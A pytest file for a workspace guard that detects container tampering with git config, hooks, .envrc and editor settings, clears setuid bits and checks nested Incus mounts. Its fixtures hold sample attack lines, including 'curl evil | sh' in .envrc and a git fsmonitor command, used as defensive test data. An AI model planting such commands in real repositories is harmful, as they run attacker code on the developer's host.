"""The workspace guard's host-side logic: [security] protected_paths, protection mounts, fingerprints and the
end-of-session report, setuid clearing, and the Incus check that nested mounts came from where they say."""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

import pytest

from cci_builtin_plugins.incus.mount_check import mismatches, nested_devices, parse_mountinfo
from cci_builtin_plugins.workspace import plugin as guard
from cci_builtin_plugins.workspace.fingerprint import advice, changes, fingerprint
from cci_builtin_plugins.workspace.sweep import sweep
from cci_core.config import load_config
from cci_core.context import LaunchContext
from cci_core.errors import ConfigError
from tests.fakes import FakeContainer


def config_with(tmp_path: Path, toml: str):  # type: ignore[no-untyped-def]
    (tmp_path / ".cci.toml").write_text(toml)
    return load_config(tmp_path, environ={}, system_file=tmp_path / "none", user_file=tmp_path / "none2")


# -- [security] protected_paths ------------------------------------------------------------------------


def test_protected_paths_default_to_git_config_hooks_and_editor_configs(tmp_path: Path) -> None:
    config = load_config(tmp_path, environ={})
    assert config.security.protected_paths == [".git/config", ".git/hooks", ".envrc", ".vscode", ".idea",
                                               ".devcontainer"]
    assert config.source_of("security.protected_paths") == "default"


def test_protected_paths_can_be_set_and_emptied(tmp_path: Path) -> None:
    assert config_with(tmp_path, '[security]\nprotected_paths = [".git/hooks", "tools/run.sh"]\n'
                       ).security.protected_paths == [".git/hooks", "tools/run.sh"]
    assert config_with(tmp_path, "[security]\nprotected_paths = []\n").security.protected_paths == []


@pytest.mark.parametrize("entry", ["/etc/passwd", "../x", "a/../../b", "./a", "a//b", "a/", "", "a\\\\b", "a\\nb"])
def test_a_bad_protected_path_is_one_clear_error(tmp_path: Path, entry: str) -> None:
    with pytest.raises(ConfigError) as info:
        config_with(tmp_path, f'[security]\nprotected_paths = [".git/hooks", "{entry}"]\n')
    message = str(info.value)
    assert "\n" not in message
    assert ".cci.toml:2: security.protected_paths: " in message and "(e.g. .git/hooks)" in message, message


# -- protection mounts ---------------------------------------------------------------------------------


def make_repo(workspace: Path) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n")


def test_protection_mounts_cover_what_exists_read_only_and_make_git_a_mount_point(tmp_path: Path) -> None:
    make_repo(tmp_path)
    (tmp_path / ".vscode").mkdir()
    mounts = guard.protected_mounts(tmp_path, [".git/config", ".git/hooks", ".envrc", ".vscode"])
    assert [(m.device, m.source, m.path, m.readonly) for m in mounts] == [
        ("protect-git", tmp_path / ".git", "/workspace/.git", False),
        ("protect-0", tmp_path / ".git/config", "/workspace/.git/config", True),
        ("protect-1", tmp_path / ".git/hooks", "/workspace/.git/hooks", True),
        ("protect-3", tmp_path / ".vscode", "/workspace/.vscode", True),
    ]
    assert all(m.shift for m in mounts)  # the workspace's ownership
    assert [(m.device, m.readonly) for m in guard.protected_mounts(tmp_path, [".git"])] == [("protect-git", True)]
    assert guard.protected_mounts(tmp_path, []) == []


def test_links_fifos_and_paths_through_links_are_never_mounted(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "hooks").mkdir(parents=True)
    (elsewhere / "config").write_text("")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / ".git").symlink_to(elsewhere)  # Incus would mount the link's target
    (workspace / ".vscode").symlink_to(elsewhere)
    os.mkfifo(workspace / ".envrc")
    assert guard.protected_mounts(workspace, [".git/config", ".git/hooks", ".vscode", ".envrc"]) == []


def test_a_git_file_is_mounted_read_only(tmp_path: Path) -> None:
    (tmp_path / ".git").write_text("gitdir: ../main/.git/worktrees/ws\n")
    assert [(m.device, m.readonly) for m in guard.protected_mounts(tmp_path, [".git/config"])] == [
        ("protect-git", True)]


def test_a_first_start_mounts_and_labels_a_restart_takes_them_off(tmp_path: Path) -> None:
    make_repo(tmp_path)
    config = config_with(tmp_path, "")
    ctx = LaunchContext(config=config, workspace=tmp_path, container_name="cci-0-1", slot=1, session_id="s",
                        persistent=True, image="cci")
    container = FakeContainer("cci-0-1")
    guard.cci_pre_start(ctx=ctx, container=container, restart=False)
    assert [m.device for m in container.mounts] == ["protect-git", "protect-0", "protect-1"]
    assert container.labels()["protected"] == "protect-git,protect-0,protect-1"
    guard.cci_pre_start(ctx=ctx, container=container, restart=True)
    assert container.mounts == [] and container.labels().get("protected", "") == ""


# -- fingerprints and the end-of-session report ---------------------------------------------------------


def test_fingerprints_see_content_mode_links_and_new_files(tmp_path: Path) -> None:
    make_repo(tmp_path)
    hook = tmp_path / ".git/hooks/pre-commit.sample"
    hook.write_text("#!/bin/sh\n")
    paths = guard.watched_paths([".git/config", ".git/hooks"])
    before = fingerprint(tmp_path, paths)
    assert fingerprint(tmp_path, paths) == before
    (tmp_path / ".git/config").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
    hook.chmod(0o755)
    (tmp_path / ".git/hooks/pre-commit").symlink_to("/bin/sh")
    (tmp_path / ".envrc").write_text("curl evil | sh\n")
    (tmp_path / ".vscode").mkdir()
    (tmp_path / ".vscode/tasks.json").write_text("{}")
    assert changes(before, fingerprint(tmp_path, paths)) == [
        (".envrc", "created"), (".git/config", "changed"), (".git/hooks/pre-commit", "created"),
        (".git/hooks/pre-commit.sample", "changed"), (".vscode", "created"), (".vscode/tasks.json", "created")]


def test_fingerprints_never_open_fifos_nor_follow_links(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key").write_text("k")
    workspace = tmp_path / "ws"
    (workspace / ".vscode").mkdir(parents=True)
    os.mkfifo(workspace / ".vscode" / "tasks.json")  # opening it for reading would block
    os.mkfifo(workspace / ".envrc")
    (workspace / ".idea").symlink_to(secret)
    found = fingerprint(workspace, [".vscode", ".envrc", ".idea", ".idea/key"])
    assert found[".envrc"].startswith("special") and found[".vscode/tasks.json"].startswith("special")
    assert found[".idea"] == f"link -> {secret}" and ".idea/key" not in found


def test_nested_git_dirs_report_configs_and_hooks_not_objects(tmp_path: Path) -> None:
    make_repo(tmp_path)
    module = tmp_path / ".git/modules/lib"
    (module / "hooks").mkdir(parents=True)
    (module / "objects/ab").mkdir(parents=True)
    (module / "config").write_text("")
    (module / "objects/ab/cdef").write_text("blob")
    (module / "HEAD").write_text("ref: refs/heads/main\n")
    (module / "hooks/post-checkout").write_text("#!/bin/sh\n")
    (module / "ORIG_HEAD").write_text("1\n")
    (module / "config.lock").write_text("")
    assert set(fingerprint(tmp_path, [".git"])) == {
        ".git", ".git/config", ".git/hooks", ".git/modules", ".git/modules/lib", ".git/modules/lib/config",
        ".git/modules/lib/hooks", ".git/modules/lib/hooks/post-checkout"}


def test_advice_names_what_runs_the_file() -> None:
    assert "git runs hooks" in advice(".git/hooks/pre-commit")
    assert "core.fsmonitor" in advice(".git/config") and "core.fsmonitor" in advice(".git/modules/x/config")
    assert "reads config and hooks from the directory it names" in advice(".git/commondir")
    assert "direnv" in advice(".envrc")
    assert "editor" in advice(".vscode/tasks.json")


def test_session_end_reports_each_change_once_and_forgets_the_start(tmp_path: Path) -> None:
    make_repo(tmp_path)
    config = config_with(tmp_path, "")
    ctx = LaunchContext(config=config, workspace=tmp_path, container_name="cci-0-2", slot=2, session_id="s",
                        persistent=False, image="cci")
    guard.cci_pre_start(ctx=ctx, container=FakeContainer("cci-0-2"), restart=False)
    assert guard.baseline_file("cci-0-2").stat().st_mode & 0o777 == 0o600
    (tmp_path / ".git/hooks/pre-commit").write_text("#!/bin/sh\n")
    reported: list[str] = []
    guard.cci_session_end(ctx=ctx, deleted=True, report=reported.append)
    assert reported == ["workspace file .git/hooks/pre-commit was created during session cci-0-2: git runs "
                        "hooks on the host: check it before your next git command"]
    assert not guard.baseline_file("cci-0-2").exists()
    reported.clear()
    guard.cci_session_end(ctx=ctx, deleted=True, report=reported.append)  # no record of a start: nothing
    assert reported == []


# -- setuid (the end-of-session sweep) ------------------------------------------------------------------


def test_setuid_and_setgid_bits_are_cleared_on_files_only(tmp_path: Path) -> None:
    (tmp_path / "a/b").mkdir(parents=True)
    for name, mode in (("a/b/suid", 0o4755), ("sgid", 0o2711), ("plain", 0o755)):
        (tmp_path / name).write_text("x")
        (tmp_path / name).chmod(mode)
    (tmp_path / "a").chmod(0o2775)  # a setgid directory is how shared groups work: left alone
    os.mkfifo(tmp_path / "fifo", 0o644)
    (tmp_path / "link").symlink_to("/usr/bin/passwd")  # setuid on the host: never followed
    report = sweep(tmp_path)
    assert sorted(report.cleared) == ["a/b/suid", "sgid"] and report.left == [] and report.skipped == []
    assert stat.S_IMODE((tmp_path / "a/b/suid").stat().st_mode) == 0o755
    assert stat.S_IMODE((tmp_path / "sgid").stat().st_mode) == 0o711
    assert stat.S_IMODE((tmp_path / "a").stat().st_mode) == 0o2775
    assert sweep(tmp_path).cleared == []


def test_setuid_files_of_another_owner_are_reported_not_touched(tmp_path: Path) -> None:
    (tmp_path / "x").write_text("x")
    (tmp_path / "x").chmod(0o4755)
    report = sweep(tmp_path, owner=os.geteuid() + 1)
    assert report.left == ["x"] and report.cleared == []
    assert (tmp_path / "x").stat().st_mode & stat.S_ISUID


def session_end_report(workspace: Path, slot: int) -> list[str]:
    """What the guard reports at the end of a session of ``workspace`` it has no record of a start for."""
    ctx = LaunchContext(config=config_with(workspace, ""), workspace=workspace, container_name=f"cci-0-{slot}",
                        slot=slot, session_id="s", persistent=False, image="cci")
    reported: list[str] = []
    guard.cci_session_end(ctx=ctx, deleted=True, report=reported.append)
    return reported


def test_end_of_session_says_what_it_cleared(tmp_path: Path) -> None:
    (tmp_path / "tool").write_text("x")
    (tmp_path / "tool").chmod(0o4755)
    reported = session_end_report(tmp_path, slot=3)
    assert len(reported) == 1 and reported[0].startswith("cleared the setuid/setgid bit of workspace file tool")


# -- Incus: nested mounts are checked after a start -----------------------------------------------------

DEVICES = {
    "root": {"type": "disk", "path": "/", "pool": "default"},
    "workspace": {"type": "disk", "source": "/home/u/p", "path": "/workspace"},
    "protect-git": {"type": "disk", "source": "/home/u/p/.git", "path": "/workspace/.git"},
    "protect-1": {"type": "disk", "source": "/home/u/p/.git/hooks", "path": "/workspace/.git/hooks",
                  "readonly": "true"},
    "storage0": {"type": "disk", "source": "/home/u/.cci/storage/x", "path": "/storage/x"},
}
GOOD = """\
280 268 254:1 /u/p /workspace rw,relatime shared:1 - ext4 /dev/vdb rw
281 280 254:1 /u/p/.git /workspace/.git rw,relatime shared:2 - ext4 /dev/vdb rw
282 281 254:1 /u/p/.git/hooks /workspace/.git/hooks ro,relatime shared:3 - ext4 /dev/vdb rw
283 268 254:1 /u/.cci/storage/x /storage/x rw,relatime shared:4 - ext4 /dev/vdb rw
"""


def test_nested_devices_are_found_by_source_and_path() -> None:
    assert sorted(nested_devices(DEVICES)) == [("protect-1", "protect-git", "hooks"),
                                               ("protect-git", "workspace", ".git")]


def test_nested_mounts_that_came_from_their_place_pass() -> None:
    assert mismatches(DEVICES, GOOD) == []


def test_a_nested_mount_that_followed_a_link_is_caught() -> None:
    swapped = GOOD.replace("/u/p/.git /workspace/.git ", "/u/.ssh /workspace/.git ")
    assert mismatches(DEVICES, swapped) == ["protect-git", "protect-1"]
    other_fs = GOOD.replace("254:1 /u/p/.git/hooks", "254:7 /u/p/.git/hooks")
    assert mismatches(DEVICES, other_fs) == ["protect-1"]
    unmounted = "".join(line + "\n" for line in GOOD.splitlines() if "hooks" not in line)
    assert mismatches(DEVICES, unmounted) == ["protect-1"]
    covered = GOOD + "290 282 0:50 / /workspace/.git/hooks rw - tmpfs tmpfs rw\n"
    assert mismatches(DEVICES, covered) == ["protect-1"]
    # mounted before .git (under it, hidden): its parent is the workspace's mount, not .git's
    hidden = GOOD.replace("282 281 254:1 /u/p/.git/hooks", "282 280 254:1 /u/p/.git/hooks")
    assert mismatches(DEVICES, hidden) == ["protect-1"]


def test_mountinfo_escapes_are_undone() -> None:
    assert parse_mountinfo("1 2 8:1 /a\\040b /w\\040x rw - ext4 /dev/x rw\n") == {"/w x": ("1", "2", "8:1", "/a b")}


# -- what .git/config points at ------------------------------------------------------------------------


def test_hooks_path_and_includes_inside_the_workspace_are_protected_too(tmp_path: Path) -> None:
    make_repo(tmp_path)
    (tmp_path / ".git/config").write_text(
        '[core]\n\tbare = false\n\thooksPath = .husky\n[include]\n\tpath = ../shared.gitconfig\n'
        f'[includeIf "gitdir:~/work/"]\n\tpath = "{tmp_path}/conf/extra"\n[include]\n\tpath = ~/.gitconfig-x\n'
        '[include]\n\tpath = ../../outside\n')
    for path in (".husky", "conf"):
        (tmp_path / path).mkdir()
    (tmp_path / "shared.gitconfig").write_text("")
    (tmp_path / "conf/extra").write_text("")
    paths = guard.protected_paths(tmp_path, [".git/config", ".git/hooks"])
    assert paths == [".git/config", ".git/hooks", ".husky", "shared.gitconfig", "conf/extra"]
    assert [m.path for m in guard.protected_mounts(tmp_path, paths)][-3:] == [
        "/workspace/.husky", "/workspace/shared.gitconfig", "/workspace/conf/extra"]
    assert guard.protected_paths(tmp_path, [".git/hooks"]) == [".git/hooks"]  # config not protected: not read


def test_a_git_config_that_is_a_fifo_or_a_link_names_nothing(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    os.mkfifo(tmp_path / ".git/config")
    assert guard.protected_paths(tmp_path, [".git/config"]) == [".git/config"]
    (tmp_path / ".git/config").unlink()
    (tmp_path / "real").write_text("[core]\nhooksPath = .husky\n")
    (tmp_path / ".git/config").symlink_to(tmp_path / "real")
    assert guard.protected_paths(tmp_path, [".git/config"]) == [".git/config"]


def test_directories_too_deep_to_walk_are_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from cci_builtin_plugins.workspace import walk

    monkeypatch.setattr(walk, "MAX_DEPTH", 3)
    (tmp_path / "a/b/c/d").mkdir(parents=True)
    (tmp_path / "a/b/c/d/x").write_text("x")
    (tmp_path / "a/b/c/d/x").chmod(0o4755)
    reported = session_end_report(tmp_path, slot=4)
    assert reported == ["could not check workspace directory a/b/c for setuid files and git directories"]


# -- what the red-team review found (docs/security.md) ----------------------------------------------------


def start_session(workspace: Path, slot: int) -> LaunchContext:
    """A session of ``workspace`` whose start the guard recorded, once the kernel's file clock (coarser than
    the guard's own) has ticked past the files made before."""
    made = max((os.lstat(os.path.join(top, name)).st_ctime_ns for top, dirs, files in os.walk(workspace)
                for name in (*dirs, *files)), default=0)
    deadline = time.monotonic() + 5
    while guard.file_clock(workspace.parent) <= made:
        assert time.monotonic() < deadline, "the file clock did not tick"
    ctx = LaunchContext(config=config_with(workspace, ""), workspace=workspace, container_name=f"cci-0-{slot}",
                        slot=slot, session_id="s", persistent=False, image="cci")
    guard.cci_pre_start(ctx=ctx, container=FakeContainer(ctx.container_name), restart=False)
    return ctx


def end_session(ctx: LaunchContext) -> list[str]:
    reported: list[str] = []
    guard.cci_session_end(ctx=ctx, deleted=True, report=reported.append)
    return reported


def test_everything_git_obeys_in_the_top_git_directory_is_reported(tmp_path: Path) -> None:
    make_repo(tmp_path)
    for name in ("HEAD", "index", "description"):
        (tmp_path / ".git" / name).write_text("x\n")
    (tmp_path / ".git/objects/ab").mkdir(parents=True)
    ctx = start_session(tmp_path, slot=5)
    # what git does while working: not reported
    (tmp_path / ".git/HEAD").write_text("ref: refs/heads/other\n")
    (tmp_path / ".git/index").write_text("y\n")
    (tmp_path / ".git/ORIG_HEAD").write_text("z\n")
    (tmp_path / ".git/objects/ab/cdef").write_text("blob")
    (tmp_path / ".git/refs/heads").mkdir(parents=True)
    (tmp_path / ".git/refs/heads/other").write_text("1\n")
    # what makes git on the host read config and hooks elsewhere: reported
    (tmp_path / ".git/commondir").write_text("../.evil\n")
    (tmp_path / ".git/config.worktree").write_text("[core]\n\tfsmonitor = x\n")
    (tmp_path / ".git/info").mkdir()
    (tmp_path / ".git/info/exclude").write_text("*\n")
    (tmp_path / ".git/description").write_text("changed\n")
    reported = [line.split(" during ")[0] for line in end_session(ctx)]
    assert reported == [f"workspace file .git/{path} was created" for path in (
        "commondir", "config.worktree")] + ["workspace file .git/description was changed"] + [
        f"workspace file .git/{path} was created" for path in ("info", "info/exclude")]


def test_a_nested_git_directory_or_git_file_made_or_changed_in_a_session_is_reported(tmp_path: Path) -> None:
    make_repo(tmp_path)
    (tmp_path / "old/.git/hooks").mkdir(parents=True)  # nested repositories the session leaves alone
    (tmp_path / "old/.git/config").write_text("[core]\n")
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib/.git").write_text("gitdir: ../.git/modules/lib\n")
    (tmp_path / "keep").mkdir()
    (tmp_path / "keep/.git").write_text("gitdir: ../.git/modules/keep\n")
    ctx = start_session(tmp_path, slot=6)
    (tmp_path / "sub/.git/objects").mkdir(parents=True)
    (tmp_path / "sub/.git/HEAD").write_text("ref: refs/heads/main\n")
    (tmp_path / "sub/.git/config").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
    (tmp_path / "lib/.git").write_text("gitdir: ../.evil\n")
    (tmp_path / "deep/er").mkdir(parents=True)
    (tmp_path / "deep/er/.git").symlink_to("../../.evil")
    reported = end_session(ctx)
    assert [line.split(" during ")[0] for line in reported] == [
        "workspace git directory deep/er/.git was created or changed",
        "workspace git directory lib/.git was created or changed",
        "workspace git directory sub/.git was created or changed"], reported
    assert "(config)" in reported[2] and "git on the host" in reported[2]


def test_a_nested_git_directory_whose_config_or_hooks_changed_is_reported(tmp_path: Path) -> None:
    (tmp_path / "a/.git/hooks").mkdir(parents=True)
    (tmp_path / "a/.git/config").write_text("[core]\n")
    ctx = start_session(tmp_path, slot=7)
    (tmp_path / "a/.git/config").write_text("[core]\n\thooksPath = /tmp\n")
    (tmp_path / "a/.git/hooks/pre-commit").write_text("#!/bin/sh\n")
    reported = end_session(ctx)
    assert len(reported) == 1 and reported[0].startswith("workspace git directory a/.git was created or changed ")
    assert "(config, hooks, hooks/pre-commit)" in reported[0], reported


def test_in_a_nested_git_directory_git_at_work_is_quiet_and_a_submodules_config_is_not(tmp_path: Path) -> None:
    git = tmp_path / "a/.git"
    for path in ("objects/ab", "refs/heads", "modules/m/objects"):
        (git / path).mkdir(parents=True)
    for path in ("HEAD", "index", "config", "modules/m/HEAD", "modules/m/index", "modules/m/config"):
        (git / path).write_text("x\n")
    ctx = start_session(tmp_path, slot=8)
    for path in ("HEAD", "index", "objects/ab/cdef", "refs/heads/b", "modules/m/index", "modules/m/ORIG_HEAD",
                 "modules/m/objects/pack", "modules/m/COMMIT_EDITMSG", "modules/m/config.lock"):
        (git / path).write_text("y\n")
    assert end_session(ctx) == []
    ctx = start_session(tmp_path, slot=8)
    (git / "modules/m/config").write_text("[core]\n\tfsmonitor = x\n")
    reported = end_session(ctx)
    assert len(reported) == 1 and reported[0].startswith(
        "workspace git directory a/.git was created or changed during session cci-0-8 (modules/m/config): "), reported


@pytest.mark.parametrize(("config", "expected"), [
    ("[core]\n\thooksPath = tools-hooks ; set by make setup\n", ["tools-hooks"]),
    ("[core]\n\thooksPath = tools-hooks # set by make setup\n", ["tools-hooks"]),
    ('[include]\n\tpath = "../shared"".cfg"\n', ["shared.cfg"]),
    ('[include]\n\tpath = "../sha;red.cfg" ; comment\n', ["sha;red.cfg"]),
    ("[CORE]\n\tHOOKSPATH = hooks-dir\n", ["hooks-dir"]),
    ("[core] hooksPath = same-line\n", ["same-line"]),
    ("[core]\n\thooksPath = con\\\ntinued\n", ["continued"]),
    ('[core]\n\thooksPath = "a\\"b"\n', ['a"b']),
    ('[includeIf "gitdir:~/x/"]\n\tpath = ../c.cfg\n', ["c.cfg"]),
    ('[includeIf "gitdir:\\"]x"]\n\tpath = ../d.cfg\n', ["d.cfg"]),
    ('[include "sub"]\n\tpath = ../not-an-include\n[core.hooksPath]\n\tx = y\n', []),
    ("# [core]\n; hooksPath = no\n[core]\n\thooksPath\n", []),
])
def test_git_config_is_read_as_git_reads_it(tmp_path: Path, config: str, expected: list[str]) -> None:
    from cci_builtin_plugins.workspace.git_refs import referenced_paths

    make_repo(tmp_path)
    (tmp_path / ".git/config").write_text(config)
    assert referenced_paths(tmp_path) == expected


def test_includes_are_followed_within_the_workspace(tmp_path: Path) -> None:
    from cci_builtin_plugins.workspace.git_refs import referenced_paths

    make_repo(tmp_path)
    (tmp_path / ".git/config").write_text("[include]\n\tpath = ../conf/a.cfg\n")
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf/a.cfg").write_text("[include]\n\tpath = b.cfg\n[include]\n\tpath = a.cfg\n")  # a loop
    (tmp_path / "conf/b.cfg").write_text("[core]\n\thooksPath = ./hooks\n")
    assert referenced_paths(tmp_path) == ["conf/a.cfg", "conf/b.cfg", "hooks"]


def test_a_change_past_the_hashed_part_of_a_big_file_is_seen(tmp_path: Path) -> None:
    from cci_builtin_plugins.workspace.fingerprint import HASH_LIMIT

    (tmp_path / ".idea").mkdir()
    big = tmp_path / ".idea/workspace.xml"
    big.write_bytes(b"A" * (2 * HASH_LIMIT))
    before = fingerprint(tmp_path, [".idea"])
    info = big.stat()
    with big.open("r+b") as handle:
        handle.seek(HASH_LIMIT + 5)
        handle.write(b"run")
    os.utime(big, ns=(info.st_atime_ns, info.st_mtime_ns))  # what root in the container can do
    assert changes(before, fingerprint(tmp_path, [".idea"])) == [(".idea/workspace.xml", "changed")]


def test_a_change_past_the_described_entries_of_a_directory_is_seen(tmp_path: Path) -> None:
    from cci_builtin_plugins.workspace.fingerprint import MAX_ENTRIES

    (tmp_path / ".vscode").mkdir()
    for index in range(MAX_ENTRIES + 50):
        (tmp_path / f".vscode/f{index:05}.json").write_text("{}")
    before = fingerprint(tmp_path, [".vscode"])
    assert ".vscode/f00000.json" in before and f".vscode/f{MAX_ENTRIES + 10:05}.json" not in before
    (tmp_path / f".vscode/f{MAX_ENTRIES + 10:05}.json").write_text('{"x": 1}')
    assert [how for _path, how in changes(before, fingerprint(tmp_path, [".vscode"]))] == ["changed"]


def test_a_start_recorded_by_an_older_cci_is_compared_as_it_was_recorded(tmp_path: Path) -> None:
    import json

    make_repo(tmp_path)
    (tmp_path / ".git/description").write_text("d\n")
    (tmp_path / ".git/hooks/pre-push").write_text("#!/bin/sh\n")
    (tmp_path / ".cci.toml").write_text("")  # written again at the end: a new change time, the same content
    paths = guard.watched_paths([".git/config", ".git/hooks"])
    older = {path: how.rpartition(" ctime ")[0] or how for path, how in fingerprint(tmp_path, paths).items()
             if path in (".git", ".git/config", ".git/hooks", ".git/hooks/pre-push", ".cci.toml")}
    guard.baseline_file("cci-0-9").parent.mkdir(parents=True, exist_ok=True)
    guard.baseline_file("cci-0-9").write_text(json.dumps(
        {"workspace": str(tmp_path), "session": "s", "paths": paths, "fingerprint": older}))
    (tmp_path / ".git/hooks/pre-push").write_text("#!/bin/sh\nevil\n")
    assert [line.split(" during ")[0] for line in session_end_report(tmp_path, slot=9)] == [
        "workspace file .git/hooks/pre-push was changed"]


def test_the_file_clock_reads_the_kernels_stamp_and_leaves_no_file(tmp_path: Path) -> None:
    directory = tmp_path / "guard"
    before = time.time_ns()
    clock = guard.file_clock(directory)
    made = directory / "made-after"
    made.write_text("x")
    assert os.stat(made).st_ctime_ns >= clock  # a file changed from now on is stamped at it or later
    assert clock >= before - 50_000_000  # the kernel's stamp (a tick behind at most), not the fallback a second back
    assert [path.name for path in directory.iterdir()] == ["made-after"]  # the probe had no name
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
